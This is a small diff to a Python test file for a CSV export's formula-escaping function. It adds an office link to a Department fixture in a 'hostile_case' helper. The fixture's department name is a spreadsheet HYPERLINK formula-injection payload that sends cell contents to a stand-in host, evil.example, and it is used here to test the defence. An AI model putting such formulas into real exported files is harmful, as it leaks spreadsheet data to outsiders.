@@ -9,6 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from admin.export import BOM, FORMULA_STARTS, csv_safe
+from tickets import offices
 from tickets.db import db
 from tickets.models import Department
 
@@ -25,7 +26,8 @@ def export(client, **args):
 
 def hostile_case(world, **overrides):
     with world.app.app_context():
-        department = Department(code="X", name='=HYPERLINK("http://evil.example/?"&A1,"点此")')
+        department = Department(code="X", name='=HYPERLINK("http://evil.example/?"&A1,"点此")',
+                                office_id=offices.root_id(db.session))
         db.session.add(department)
         db.session.commit()
         department_id = department.id
